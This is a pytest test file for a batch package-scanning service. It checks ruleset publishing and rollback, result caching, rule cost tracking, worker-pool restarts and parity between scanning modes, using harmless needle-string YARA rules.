"""Registry, cache, scheduler and the batch-scanning service (plus the CLI)."""

import gc
import json
import multiprocessing
import os
import pickle
import signal
import subprocess
import sys
import threading
import time
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.cli import main as cli_main
from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.evaluation.detector import (
    PackageDetection,
    PreparedPackage,
    RuleScanner,
    prepare_packages,
)
from repro.obs import get_registry
from repro.scanserve import (
    BoundedQueue,
    RuleCostTracker,
    RulesetRegistry,
    RulesetVersion,
    ScanResultCache,
    ScanScheduler,
    ScanService,
    ScanServiceConfig,
    chunk_items,
)
from repro.semgrepx import SemgrepRule, compile_rules
from repro.semgrepx.matcher import ParseMemo
from repro.yarax import compile_source


def _tiny_yara(name="tiny", needle="needle_zzz"):
    return compile_source(
        f'rule {name} {{ strings: $a = "{needle}" condition: $a }}'
    )


_SCAN_COUNTERS = (
    "repro_scan_batches_total",
    "repro_scan_packages_total",
    "repro_scan_cache_total",
)


def _scan_counts() -> dict:
    """The service's scan counters, keyed ``(family, *label values)``."""
    registry = get_registry()
    return {
        (name, *key): child.value
        for name in _SCAN_COUNTERS
        for key, child in registry.get(name).samples()
    }


def _counted_since(before: dict) -> dict:
    """How far each scan counter moved since ``before`` (moved ones only)."""
    return {
        key: value - before.get(key, 0.0)
        for key, value in _scan_counts().items()
        if value != before.get(key, 0.0)
    }


def _lanes_since(before: dict) -> dict:
    """Batches served since ``before``, by ``repro_scan_batches_total`` lane."""
    return {
        key[1]: count
        for key, count in _counted_since(before).items()
        if key[0] == "repro_scan_batches_total"
    }


# -- registry -----------------------------------------------------------------------


class TestRulesetRegistry:
    def test_empty_registry_raises(self):
        registry = RulesetRegistry()
        with pytest.raises(LookupError):
            registry.current()

    def test_publish_and_hot_swap(self):
        registry = RulesetRegistry()
        v1 = registry.publish(yara=_tiny_yara("first"), label="gen-1")
        assert registry.current().version == v1.version == 1
        v2 = registry.publish(yara=_tiny_yara("second"), label="gen-2")
        assert registry.current().version == v2.version == 2
        assert registry.versions() == [1, 2]

    def test_publish_without_activation(self):
        registry = RulesetRegistry()
        registry.publish(yara=_tiny_yara("live"))
        staged = registry.publish(yara=_tiny_yara("staged"), activate=False)
        assert registry.current().version == 1
        registry.activate(staged.version)
        assert registry.current().version == staged.version

    def test_rollback(self):
        registry = RulesetRegistry()
        registry.publish(yara=_tiny_yara("good"))
        registry.publish(yara=_tiny_yara("bad"))
        registry.activate(1)
        assert registry.current().index.stats().yara_rules == 1
        assert registry.current().yara.rule_names() == ["good"]

    def test_retire_rules(self):
        registry = RulesetRegistry()
        registry.publish(yara=_tiny_yara("a"))
        registry.publish(yara=_tiny_yara("b"))
        registry.retire(1)
        assert registry.versions() == [2]
        with pytest.raises(ValueError):
            registry.retire(2)  # cannot retire the active version
        with pytest.raises(LookupError):
            registry.get(1)

    def test_publish_needs_rules(self):
        with pytest.raises(ValueError):
            RulesetRegistry().publish()

    def test_publish_generated(self, generated_rules):
        registry = RulesetRegistry()
        version = registry.publish_generated(generated_rules, label="pipeline")
        assert version.rule_count > 0
        assert "pipeline" in version.describe()


# -- cache --------------------------------------------------------------------------


class TestScanResultCache:
    def _detection(self, name="pkg==1.0"):
        return PackageDetection(
            package=name, actual_malicious=True, yara_rules=["r1"]
        )

    def test_roundtrip_and_stats(self):
        cache = ScanResultCache(max_entries=8)
        assert cache.get("fp", 1) is None
        cache.put("fp", 1, self._detection())
        hit = cache.get("fp", 1)
        assert hit is not None and hit.yara_rules == ["r1"]

    def test_version_isolation(self):
        cache = ScanResultCache()
        cache.put("fp", 1, self._detection())
        assert cache.get("fp", 2) is None  # new ruleset version: no stale hits

    def test_returned_detections_are_copies(self):
        cache = ScanResultCache()
        cache.put("fp", 1, self._detection())
        cache.get("fp", 1).yara_rules.append("mutated")
        assert cache.get("fp", 1).yara_rules == ["r1"]

    def test_lru_eviction(self):
        cache = ScanResultCache(max_entries=2)
        cache.put("a", 1, self._detection("a"))
        cache.put("b", 1, self._detection("b"))
        assert cache.get("a", 1) is not None  # refresh 'a'
        cache.put("c", 1, self._detection("c"))
        assert cache.get("b", 1) is None  # 'b' was least recently used
        assert cache.get("a", 1) is not None
        assert len(cache) == 2


# -- per-rule cost accounting --------------------------------------------------------


def _engine_evaluations() -> dict:
    family = get_registry().get("repro_rule_evaluations_total")
    return {key: child.value for key, child in family.samples()}


class TestRuleCostAccounting:
    def test_sample_records_and_tracker_merges(self):
        shard = RuleCostTracker()
        shard.record("yara", "r1", 0.5, "pkg-a")
        shard.record("yara", "r1", 1.5, "pkg-b")
        shard.record("semgrep", "s1", 0.25, "pkg-a")
        tracker = RuleCostTracker()
        before = _engine_evaluations()
        tracker.merge(shard)
        after = _engine_evaluations()
        # one increment per engine per merge, by the shard's evaluations
        assert after[("yara",)] - before.get(("yara",), 0) == 2
        assert after[("semgrep",)] - before.get(("semgrep",), 0) == 1
        other = RuleCostTracker()
        other.record("yara", "r1", 2.0, "pkg-c")
        tracker.merge(other)
        top = tracker.top_slow_rules(2)
        assert top[0].rule_key == "r1"
        assert top[0].evaluations == 3
        assert top[0].max_seconds == 2.0
        assert top[0].slowest_package == "pkg-c"
        assert top[0].total_seconds == pytest.approx(4.0)
        assert top[0].mean_seconds == pytest.approx(4.0 / 3)
        top[0].evaluations = 99  # callers get copies
        assert tracker.top_slow_rules(1)[0].evaluations == 3
        assert shard.costs[("yara", "r1")].evaluations == 2

    def test_equal_maxima_name_the_later_package(self):
        tracker = RuleCostTracker()
        tracker.record("yara", "r1", 1.0, "first")
        tracker.record("yara", "r1", 1.0, "second")
        assert tracker.top_slow_rules(1)[0].slowest_package == "second"
        later = RuleCostTracker()
        later.record("yara", "r1", 1.0, "third")
        tracker.merge(later)
        assert tracker.top_slow_rules(1)[0].slowest_package == "third"

    def test_ranking_modes(self):
        tracker = RuleCostTracker()
        for _ in range(10):  # cheap but hot
            tracker.record("yara", "hot", 0.2, "p")
        tracker.record("yara", "spiky", 1.0, "q")
        assert tracker.top_slow_rules(1, by="max")[0].rule_key == "spiky"
        assert tracker.top_slow_rules(1, by="total")[0].rule_key == "hot"
        with pytest.raises(ValueError):
            tracker.top_slow_rules(1, by="p99")

    def test_service_populates_top_slow_rules(self, generated_rules, small_dataset):
        svc = ScanService(config=ScanServiceConfig(mode="inprocess", enable_cache=False))
        svc.publish_generated(generated_rules)
        svc.scan_batch(small_dataset.packages[:6])
        top = svc.top_slow_rules(5)
        assert top
        known = set(generated_rules.compile_yara().rule_names()) | set(
            generated_rules.compile_semgrep().rule_ids()
        )
        assert all(cost.rule_key in known for cost in top)
        assert all(cost.evaluations > 0 for cost in top)
        assert top == sorted(top, key=lambda c: c.max_seconds, reverse=True)
        assert "evals" in top[0].describe()

    def test_threads_merge_every_shards_costs(self, generated_rules, small_dataset):
        """Two threads scanning disjoint halves through one service count
        each rule's evaluations as two services scanning a half each do."""
        halves = (small_dataset.packages[::2], small_dataset.packages[1::2])
        config = ScanServiceConfig(mode="inprocess", enable_cache=False)

        def evaluations(service) -> dict:
            return {
                (cost.engine, cost.rule_key): cost.evaluations
                for cost in service.top_slow_rules(n=100_000)
            }

        def scan(service, half) -> None:
            for package in half:  # one merge per package
                service.scan_batch([package])

        expected: Counter = Counter()
        for half in halves:
            with ScanService(config=config) as alone:
                alone.publish_generated(generated_rules)
                scan(alone, half)
                expected.update(evaluations(alone))
        for _ in range(5):  # a fresh service: both threads insert every rule
            with ScanService(config=config) as shared:
                shared.publish_generated(generated_rules)
                threads = [
                    threading.Thread(target=scan, args=(shared, half))
                    for half in halves
                ]
                interval = sys.getswitchinterval()
                sys.setswitchinterval(1e-5)
                try:
                    for thread in threads:
                        thread.start()
                    for thread in threads:
                        thread.join(timeout=120)
                finally:
                    sys.setswitchinterval(interval)
                assert not any(thread.is_alive() for thread in threads)
                assert evaluations(shared) == dict(expected)

    def test_shard_costs_carry_attributes_through_pickle(self):
        """A benchmark hook sets an attribute on element 1 of a worker's
        ``_scan_shard`` result and pops it from ``__dict__`` in the parent,
        so the rule-cost accumulator pickles its whole ``__dict__``: no
        ``__slots__``, no ``__getstate__``."""
        import repro.scanserve.service as service_module

        shard = list(enumerate(prepare_packages(_needle_packages(4))))
        saved_scanner = getattr(service_module._WORKER, "scanner", None)
        try:
            service_module._worker_init((_tiny_yara("rule_a", "needle_a"), None, None), 1)
            result = service_module._scan_shard((shard, None))
        finally:
            service_module._WORKER.scanner = saved_scanner
        detections, costs, seconds, spans = result
        assert [d.yara_rules for _, d in detections] == [["rule_a"], [], ["rule_a"], []]
        assert costs.costs[("yara", "rule_a")].evaluations == 4
        costs.bench_spans = [["span", "from", "a", "worker"]]
        restored = pickle.loads(pickle.dumps(result))[1]
        assert restored.__dict__.pop("bench_spans") == [["span", "from", "a", "worker"]]
        assert restored.costs == costs.costs


class TestTelemetryDeterminism:
    def test_cost_ties_break_on_engine_then_rule_name(self):
        """Equal costs must rank identically across runs (satellite: stable
        secondary sort), regardless of recording order."""
        orders = []
        for names in (("zeta", "alpha", "mid"), ("mid", "zeta", "alpha")):
            tracker = RuleCostTracker()
            for name in names:
                tracker.record("yara", name, 0.5, "pkg")
            tracker.record("semgrep", "alpha", 0.5, "pkg")
            orders.append([(c.engine, c.rule_key) for c in tracker.top_slow_rules(4)])
        assert orders[0] == orders[1]
        assert orders[0] == [
            ("semgrep", "alpha"), ("yara", "alpha"), ("yara", "mid"), ("yara", "zeta"),
        ]


def _needle_yara(atoms: int):
    """One rule per atom: ``atoms`` distinct literals in the index vocabulary."""
    return compile_source(
        "\n".join(
            f'rule r{i} {{ strings: $a = "needle_{i:04d}" condition: $a }}'
            for i in range(atoms)
        )
    )


class TestAutomatonLaneThreshold:
    def test_index_lane_follows_vocabulary_size(self):
        from repro.scanserve import AUTOMATON_THRESHOLD, RuleIndex

        below = RuleIndex(yara=_needle_yara(AUTOMATON_THRESHOLD - 1))
        at = RuleIndex(yara=_needle_yara(AUTOMATON_THRESHOLD))
        assert (below.stats().atoms, at.stats().atoms) == (191, 192)
        assert below.lane == below.stats().lane == "substring"
        assert at.lane == at.stats().lane == "automaton"
        # both lanes find the same atoms (the parity contract)
        assert below.yara_rule_names("has needle_0007 inside") == ["r7"]
        assert at.yara_rule_names("has needle_0007 inside") == ["r7"]

    def test_service_records_the_chosen_lane(self, small_dataset):
        service = ScanService(config=ScanServiceConfig(mode="inprocess"))
        service.publish(yara=_needle_yara(192))
        before = _scan_counts()
        service.scan_batch(small_dataset.packages[:3])
        assert _lanes_since(before) == {"automaton": 1}

    def test_naive_mode_is_recorded_as_its_own_lane(self, small_dataset):
        service = ScanService(
            config=ScanServiceConfig(mode="inprocess", use_index=False)
        )
        service.publish(yara=_tiny_yara())
        before = _scan_counts()
        service.scan_batch(small_dataset.packages[:3])
        assert _lanes_since(before) == {"naive": 1}

    def test_fully_cached_batches_count_as_the_cache_lane(self, small_dataset):
        service = ScanService(config=ScanServiceConfig(mode="inprocess"))
        service.publish(yara=_tiny_yara())
        before = _scan_counts()
        service.scan_batch(small_dataset.packages[:3])
        service.scan_batch(small_dataset.packages[:3])  # all cache hits
        assert _lanes_since(before) == {"substring": 1, "cache": 1}


# -- scheduler ----------------------------------------------------------------------


def _double_shard(shard):
    return [value * 2 for _, value in shard]


class TestScheduler:
    def test_more_shards_than_items(self):
        assert chunk_items([(0, "a")], 4) == [[(0, "a")]]

    def test_inprocess_run(self):
        scheduler = ScanScheduler(mode="inprocess")
        chunks = chunk_items(list(enumerate([1, 2, 3, 4])), 2)
        report = scheduler.run(chunks, _double_shard)
        assert report.results == [[2, 4], [6, 8]]
        assert report.mode == "inprocess"

    def test_process_run_or_fallback(self):
        scheduler = ScanScheduler(mode="auto", max_workers=2)
        chunks = chunk_items(list(enumerate(range(8))), 2)
        try:
            report = scheduler.run(chunks, _double_shard)
        finally:
            scheduler.close()
        flattened = sorted(v for shard in report.results for v in shard)
        assert flattened == [v * 2 for v in range(8)]
        assert report.mode in ("process", "inprocess")

    def test_unknown_mode_rejected(self):
        with pytest.raises(ValueError):
            ScanScheduler(mode="celery")

    def test_bounded_queue_backpressure(self):
        queue = BoundedQueue(max_items=2)
        assert queue.put(1) and queue.put(2)
        assert not queue.put(3, timeout=0.01)  # full: put times out
        assert queue.get() == 1
        assert queue.put(3, timeout=0.01)
        assert queue.drain() == [2, 3]
        queue.close()
        with pytest.raises(RuntimeError):
            queue.get()

    def test_chunk_items_contiguous_slices(self):
        tagged = list(enumerate("abcde"))
        assert chunk_items(tagged, 2) == [
            [(0, "a"), (1, "b")],
            [(2, "c"), (3, "d")],
            [(4, "e")],
        ]
        assert chunk_items(tagged, 10) == [tagged]
        assert chunk_items([], 3) == []
        with pytest.raises(ValueError):
            chunk_items(tagged, 0)


class TestChunkedDispatch:
    def test_process_mode_matches_inprocess(self, small_dataset):
        packages = small_dataset.packages[:8]
        inproc = ScanService(config=ScanServiceConfig(mode="inprocess", enable_cache=False))
        inproc.publish(yara=_tiny_yara())
        with ScanService(
            config=ScanServiceConfig(shards=2, mode="process", enable_cache=False)
        ) as proc:
            proc.publish(yara=_tiny_yara())
            a = inproc.scan_batch(packages)
            b = proc.scan_batch(packages)
        assert b.mode == "process"
        assert [(d.package, d.yara_rules) for d in a.detections] == [
            (d.package, d.yara_rules) for d in b.detections
        ]

    def test_worker_attaches_from_version_blob(self, small_dataset):
        """The spawn-safe lane: a worker restores the publish-time compiled
        index from ``RulesetVersion.to_bytes()`` and scans identically."""
        import repro.scanserve.service as service_module

        registry = RulesetRegistry()
        version = registry.publish(yara=_tiny_yara())
        blob = version.to_bytes()
        saved_scanner = getattr(service_module._WORKER, "scanner", None)
        try:
            service_module._worker_init(blob, 1)
            worker_scanner = service_module._WORKER.scanner
            assert worker_scanner.index is not None
            live = RuleScanner.with_index(yara_rules=version.yara)
            for package in small_dataset.packages[:4]:
                assert (
                    worker_scanner.scan_package(package).yara_rules
                    == live.scan_package(package).yara_rules
                )
        finally:
            service_module._WORKER.scanner = saved_scanner


def _needle_packages(count: int = 12) -> list[Package]:
    """Packages that hold ``needle_a``, ``needle_b``, both or neither."""
    needles = ("needle_a", "needle_b", "needle_a needle_b", "plain")
    return [
        Package(
            name=f"pool-{i}",
            version="1.0",
            metadata=PackageMetadata(name=f"pool-{i}"),
            files=[PackageFile("setup.py", f"x = '{needles[i % 4]}'  # {i}\n")],
        )
        for i in range(count)
    ]


def _verdicts(batch) -> list:
    return [(d.package, d.yara_rules) for d in batch.detections]


def _children() -> set[int]:
    return {process.pid for process in multiprocessing.active_children()}


def _wait_gone(pids: set[int], timeout: float = 10.0) -> set[int]:
    """Poll until none of ``pids`` is a live child; returns those still alive."""
    deadline = time.monotonic() + timeout
    alive = pids & _children()
    while alive and time.monotonic() < deadline:
        time.sleep(0.05)
        alive = pids & _children()
    return alive


def _pool_service(mode: str = "process") -> ScanService:
    """A 2-shard service whose v1 flags ``needle_a`` and v2 ``needle_b``;
    v2 is published by the test."""
    service = ScanService(
        config=ScanServiceConfig(shards=2, mode=mode, enable_cache=False)
    )
    service.publish(yara=_tiny_yara("rule_a", "needle_a"), label="v1")
    return service


class TestKeptWorkerPool:
    """One process pool per service, restarted per ruleset version."""

    def test_batches_on_one_version_reuse_the_workers(self):
        before = _children()
        with _pool_service() as service:
            pids = []
            for _ in range(3):
                batch = service.scan_batch(_needle_packages())
                assert batch.mode == "process" and batch.workers == 2
                pids.append(_children() - before)
        assert len(pids[0]) == 2
        assert pids[0] == pids[1] == pids[2]

    def test_fork_workers_inherit_the_ruleset_unpickled(self, monkeypatch):
        if multiprocessing.get_start_method() != "fork":
            pytest.skip("workers fork only under the fork start method")

        def refuse(version):
            raise AssertionError("a fork pool must not serialize the version")

        monkeypatch.setattr(RulesetVersion, "to_bytes", refuse)
        with _pool_service() as service:
            assert service.scan_batch(_needle_packages()).mode == "process"

    def test_publish_activate_and_pinned_versions_restart_the_pool(self):
        packages = _needle_packages()
        with _pool_service() as service:
            reference = ScanService(
                registry=service.registry,
                config=ScanServiceConfig(mode="inprocess", enable_cache=False),
            )
            expected = {}
            seen = []

            def scan(version=None):
                batch = service.scan_batch(packages, version=version)
                assert batch.mode == "process"
                number = batch.ruleset_version
                if number not in expected:
                    expected[number] = _verdicts(
                        reference.scan_batch(packages, version=number)
                    )
                assert _verdicts(batch) == expected[number]
                seen.append(number)

            scan()
            service.publish(yara=_tiny_yara("rule_b", "needle_b"), label="v2")
            scan()
            service.registry.activate(1)
            scan()
            scan(version=2)
            scan(version=1)
            assert seen == [1, 2, 1, 2, 1]
            assert expected[1] != expected[2]

    def test_a_killed_worker_falls_back_then_the_pool_restarts(self):
        packages = _needle_packages()
        before = _children()
        with _pool_service(mode="auto") as service:
            expected = _verdicts(service.scan_batch(packages))
            assert service.scan_batch(packages).mode == "process"
            workers = _children() - before
            victim = min(workers)
            os.kill(victim, signal.SIGKILL)
            assert not _wait_gone({victim})
            fallen = service.scan_batch(packages)
            assert fallen.mode == "inprocess"
            assert fallen.fallback_error
            assert _verdicts(fallen) == expected
            again = service.scan_batch(packages)
            assert again.mode == "process" and not again.fallback_error
            assert _verdicts(again) == expected
            fresh = _children() - before
            assert len(fresh) == 2 and not fresh & workers

    def test_a_killed_worker_raises_in_process_mode(self):
        packages = _needle_packages()
        before = _children()
        with _pool_service() as service:
            expected = _verdicts(service.scan_batch(packages))
            victim = min(_children() - before)
            os.kill(victim, signal.SIGKILL)
            assert not _wait_gone({victim})
            with pytest.raises(Exception, match="terminated abruptly"):
                service.scan_batch(packages)
            assert _verdicts(service.scan_batch(packages)) == expected

    def test_no_worker_outlives_close(self):
        before = _children()
        service = _pool_service()
        service.scan_batch(_needle_packages())
        workers = _children() - before
        assert len(workers) == 2
        service.close()
        assert not workers & _children()

    def test_no_worker_outlives_an_unclosed_collected_service(self):
        before = _children()
        service = _pool_service()
        service.scan_batch(_needle_packages())
        workers = _children() - before
        assert len(workers) == 2
        del service
        gc.collect()
        assert not _wait_gone(workers)

    def test_close_unsubscribes_live_rescan(self):
        with ScanService(config=ScanServiceConfig(live_rescan=True)) as service:
            service.publish(yara=_tiny_yara("rule_a", "needle_a"))
            service.scan_batch(_needle_packages(4))
        service.publish(yara=_tiny_yara("rule_b", "needle_b"))
        assert service.last_rescan is None

    def test_threads_share_one_process_service(self):
        """Threads pinning different versions make the pool swap between
        them; every batch still gets its version's detections."""
        packages = _needle_packages()
        with _pool_service() as service:
            service.publish(yara=_tiny_yara("rule_b", "needle_b"), label="v2")
            reference = ScanService(
                registry=service.registry,
                config=ScanServiceConfig(mode="inprocess", enable_cache=False),
            )
            expected = {
                number: _verdicts(reference.scan_batch(packages, version=number))
                for number in (1, 2)
            }
            pins = (1, 2, 1)
            outcomes: list = [[] for _ in pins]

            def scan(slot):
                for _ in range(3):
                    batch = service.scan_batch(packages, version=pins[slot])
                    outcomes[slot].append((batch.mode, _verdicts(batch)))

            threads = [threading.Thread(target=scan, args=(slot,)) for slot in range(3)]
            interval = sys.getswitchinterval()
            sys.setswitchinterval(1e-5)
            try:
                for thread in threads:
                    thread.start()
                for thread in threads:
                    thread.join(timeout=120)
            finally:
                sys.setswitchinterval(interval)
            assert not any(thread.is_alive() for thread in threads)
        for slot, number in enumerate(pins):
            assert outcomes[slot] == [("process", expected[number])] * 3

    def test_in_process_services_on_two_threads_keep_their_own_rules(self):
        """The in-process lane's worker state is per thread: two services
        with different rules, scanned at once, never swap scanners."""
        packages = _needle_packages()
        services = {}
        expected = {}
        for needle in ("needle_a", "needle_b"):
            service = ScanService(
                config=ScanServiceConfig(shards=2, mode="inprocess", enable_cache=False)
            )
            service.publish(yara=_tiny_yara(f"rule_{needle}", needle))
            services[needle] = service
            expected[needle] = _verdicts(service.scan_batch(packages))
        wrong: list = []

        def scan(needle):
            for _ in range(40):
                if _verdicts(services[needle].scan_batch(packages)) != expected[needle]:
                    wrong.append(needle)

        threads = [threading.Thread(target=scan, args=(n,)) for n in expected]
        interval = sys.getswitchinterval()
        sys.setswitchinterval(1e-5)  # switch threads often, so a shared scanner shows
        try:
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join(timeout=120)
        finally:
            sys.setswitchinterval(interval)
        assert not any(thread.is_alive() for thread in threads)
        assert wrong == []


_FORKSERVER_SCRIPT = """
import json
import multiprocessing

from repro.api import RulesetVersion, ScanService, ScanServiceConfig
from repro.core import RuleLLM, RuleLLMConfig
from repro.corpus import DatasetConfig, build_dataset

blobs = []
to_bytes = RulesetVersion.to_bytes


def counted_to_bytes(self):
    blobs.append(self.version)
    return to_bytes(self)


def verdicts(batch):
    return [[d.package, d.yara_rules, d.semgrep_rules] for d in batch.detections]


if __name__ == "__main__":
    multiprocessing.set_start_method("forkserver")
    RulesetVersion.to_bytes = counted_to_bytes
    dataset = build_dataset(DatasetConfig.small())
    rules = RuleLLM(RuleLLMConfig.full()).generate_rules(dataset.malware)
    outcome = {"batches": []}
    with ScanService(
        config=ScanServiceConfig(shards=2, mode="process", enable_cache=False)
    ) as service:
        reference = ScanService(
            registry=service.registry,
            config=ScanServiceConfig(mode="inprocess", enable_cache=False),
        )
        service.publish_generated(rules, label="v1")
        for publish in (False, True):
            if publish:
                service.publish(yara=rules.compile_yara(), label="v2 (YARA only)")
            for _ in range(2):
                batch = service.scan_batch(dataset.packages)
                expected = reference.scan_batch(
                    dataset.packages, version=batch.ruleset_version
                )
                outcome["batches"].append(
                    [batch.ruleset_version, batch.mode,
                     verdicts(batch) == verdicts(expected), verdicts(batch)]
                )
    outcome["blobs"] = blobs
    outcome["start_method"] = multiprocessing.get_start_method()
    print(json.dumps(outcome))
"""


class TestNonForkWorkers:
    def test_forkserver_pool_attaches_from_blobs_across_a_publish(self):
        """Workers that do not fork decode one ``to_bytes()`` blob per pool
        start, and scan like the in-process lane before and after a publish.
        A subprocess keeps the start method out of this test session."""
        src = Path(__file__).resolve().parents[1] / "src"
        env = dict(os.environ)
        env["PYTHONPATH"] = os.pathsep.join(
            [str(src)] + [p for p in env.get("PYTHONPATH", "").split(os.pathsep) if p]
        )
        done = subprocess.run(
            [sys.executable, "-c", _FORKSERVER_SCRIPT],
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stderr
        outcome = json.loads(done.stdout.strip().splitlines()[-1])
        assert outcome["start_method"] == "forkserver"
        batches = outcome["batches"]
        assert [(b[0], b[1], b[2]) for b in batches] == [
            (1, "process", True),
            (1, "process", True),
            (2, "process", True),
            (2, "process", True),
        ]
        assert batches[0][3] != batches[2][3]  # the publish changed detections
        assert outcome["blobs"] == [1, 2]  # one blob per pool start


class TestScanPreparedBatch:
    def test_batch_scan_matches_per_package(self, generated_rules, small_dataset):
        yara = generated_rules.compile_yara()
        semgrep = generated_rules.compile_semgrep()
        scanner = RuleScanner.with_index(yara_rules=yara, semgrep_rules=semgrep)
        batch = scanner.scan_prepared(small_dataset.packages)
        singles = [scanner.scan_package(p) for p in small_dataset.packages]
        assert [(d.package, d.yara_rules, d.semgrep_rules) for d in batch] == [
            (d.package, d.yara_rules, d.semgrep_rules) for d in singles
        ]


# -- service ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def service(generated_rules):
    svc = ScanService(config=ScanServiceConfig(shards=2, mode="inprocess"))
    svc.publish_generated(generated_rules, label="session rules")
    return svc


class TestScanService:
    def test_batch_parity_with_naive_scanner(
        self, service, generated_rules, small_dataset
    ):
        """The service's detections are identical to a naive RuleScanner pass."""
        naive = RuleScanner(
            yara_rules=generated_rules.compile_yara(),
            semgrep_rules=generated_rules.compile_semgrep(),
        ).scan(small_dataset.packages)
        batch = service.scan_batch(small_dataset.packages)
        assert [
            (d.package, d.yara_rules, d.semgrep_rules) for d in batch.detections
        ] == [(d.package, d.yara_rules, d.semgrep_rules) for d in naive.detections]
        assert batch.result.confusion() == naive.confusion()

    def test_cache_serves_repeat_batches(self, service, small_dataset):
        service.scan_batch(small_dataset.packages)
        before = _scan_counts()
        batch = service.scan_batch(small_dataset.packages)
        assert batch.cache_hits == len(small_dataset.packages)
        assert batch.cache_misses == 0
        assert _counted_since(before)[("repro_scan_cache_total", "hit")] == len(
            small_dataset.packages
        )

    def test_hot_swap_invalidates_results(self, small_dataset):
        svc = ScanService(config=ScanServiceConfig(mode="inprocess"))
        svc.publish(yara=_tiny_yara(needle="no_such_token_anywhere"))
        first = svc.scan_batch(small_dataset.packages[:4])
        assert all(not d.matched_rules for d in first.detections)
        # hot-swap in a rule that matches everything ('import' appears everywhere)
        svc.publish(yara=_tiny_yara("catch_all", needle="import"))
        second = svc.scan_batch(small_dataset.packages[:4])
        assert second.ruleset_version == first.ruleset_version + 1
        assert second.cache_hits == 0  # version key change bypasses stale entries
        assert all(d.matched_rules for d in second.detections)

    def test_shard_stats_cover_all_packages(self, small_dataset, generated_rules):
        svc = ScanService(
            config=ScanServiceConfig(shards=3, mode="inprocess", enable_cache=False)
        )
        svc.publish_generated(generated_rules)
        batch = svc.scan_batch(small_dataset.packages)
        assert len(batch.shard_stats) == 3
        assert sum(s.packages for s in batch.shard_stats) == len(
            small_dataset.packages
        )
        assert batch.packages_per_second > 0

    def test_scan_package_single(self, service, small_dataset):
        detection = service.scan_package(small_dataset.packages[0])
        assert detection.package == small_dataset.packages[0].identifier

    def test_to_json_report(self, service, small_dataset):
        batch = service.scan_batch(small_dataset.packages[:3])
        report = json.loads(batch.to_json())
        assert report["packages"] == 3
        assert len(report["detections"]) == 3
        assert {"package", "malicious", "matched_rules"} <= set(
            report["detections"][0]
        )

    def test_to_dict_summary_mode_replaces_detections_with_flagged(
        self, service, small_dataset
    ):
        batch = service.scan_batch(small_dataset.packages)
        full = batch.to_dict()
        summary = batch.to_dict(include_detections=False)
        assert "detections" not in summary
        assert "flagged" in summary and "flagged" not in full
        # the flagged list is exactly the malicious predictions of full mode
        assert summary["flagged"] == [
            d["package"] for d in full["detections"] if d["malicious"]
        ]
        assert summary["malicious"] == len(summary["flagged"]) == full["malicious"]
        # the telemetry envelope is identical either way
        for key in ("ruleset_version", "packages", "cache_hits", "mode", "shards"):
            assert summary[key] == full[key]
        # summary mode is what gateway job payloads embed: it must stay small
        assert json.loads(batch.to_json(include_detections=False)) == summary

    def test_match_threshold_respected(self, generated_rules, small_dataset):
        svc = ScanService(
            config=ScanServiceConfig(mode="inprocess", match_threshold=99)
        )
        svc.publish_generated(generated_rules)
        batch = svc.scan_batch(small_dataset.packages[:5])
        assert batch.result.confusion().true_positive == 0

    def test_service_stats_accumulate(self, generated_rules, small_dataset):
        svc = ScanService(config=ScanServiceConfig(mode="inprocess"))
        svc.publish_generated(generated_rules)
        before = _scan_counts()
        svc.scan_batch(small_dataset.packages[:4])
        svc.scan_batch(small_dataset.packages[:4])
        moved = _counted_since(before)
        assert sum(_lanes_since(before).values()) == 2
        assert moved[("repro_scan_packages_total",)] == 8
        assert moved[("repro_scan_cache_total", "hit")] == 4


# -- indexed RuleScanner ------------------------------------------------------------


class TestIndexedRuleScanner:
    def test_with_index_matches_naive(self, generated_rules, small_dataset):
        yara = generated_rules.compile_yara()
        semgrep = generated_rules.compile_semgrep()
        naive = RuleScanner(yara_rules=yara, semgrep_rules=semgrep)
        indexed = RuleScanner.with_index(yara_rules=yara, semgrep_rules=semgrep)
        assert indexed.index is not None
        for package in small_dataset.packages:
            a = naive.scan_package(package)
            b = indexed.scan_package(package)
            assert (a.yara_rules, a.semgrep_rules) == (b.yara_rules, b.semgrep_rules)


# -- parse memo ---------------------------------------------------------------------

_MEMO_PATHS = ("setup.py", "pkg/__init__.py", "pkg/core.py", "src/util.py", "run.py")


@pytest.fixture(scope="module")
def memo_registry(generated_rules):
    """The session rules, published once for the services below."""
    registry = RulesetRegistry()
    registry.publish_generated(generated_rules, label="session rules")
    return registry


@pytest.fixture(scope="module")
def text_pool(small_dataset, memo_registry):
    """Ten file texts: six that fire a Semgrep rule on their own, three that
    fire none and one that does not parse."""
    naive = _naive(memo_registry)
    firing: list[str] = []
    quiet: list[str] = []
    for package in small_dataset.malware + small_dataset.benign:
        for file in package.files:
            if file.is_python and file.content not in firing + quiet:
                alone = _memo_package("probe", [("setup.py", file.content)])
                fired = naive.scan_package(alone).semgrep_rules
                (firing if fired else quiet).append(file.content)
    return firing[:6] + quiet[-3:] + ["def broken(:\n"]


def _memo_package(name: str, files) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path, content) for path, content in files],
    )


def _engines(detections) -> list:
    return [(d.package, d.yara_rules, d.semgrep_rules) for d in detections]


def _naive(registry) -> RuleScanner:
    version = registry.current()
    return RuleScanner(yara_rules=version.yara, semgrep_rules=version.semgrep)


# one package: up to four files, each a pool text (by position) under a path
_layouts = st.lists(
    st.lists(
        st.tuples(st.sampled_from(_MEMO_PATHS), st.integers(0, 9)),
        min_size=1, max_size=4, unique_by=lambda file: file[0],
    ),
    min_size=1, max_size=10,
)

_SHELL_RULE = SemgrepRule(id="dup", message="m", pattern="os.system($X)")
_EVAL_RULE = SemgrepRule(id="dup", message="m", pattern="eval($X)")


class TestParseMemo:
    """A service parses and matches each distinct text once while some
    package it holds carries the text, with naive detections."""

    @settings(max_examples=25, deadline=None,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(layouts=_layouts, cuts=st.lists(st.integers(1, 9), max_size=3),
           window=st.sampled_from([0, 2, 256]))
    def test_memo_scans_equal_naive_scans(
        self, memo_registry, text_pool, layouts, cuts, window
    ):
        packages = [
            _memo_package(f"memo-{i}", [(path, text_pool[t]) for path, t in layout])
            for i, layout in enumerate(layouts)
        ]
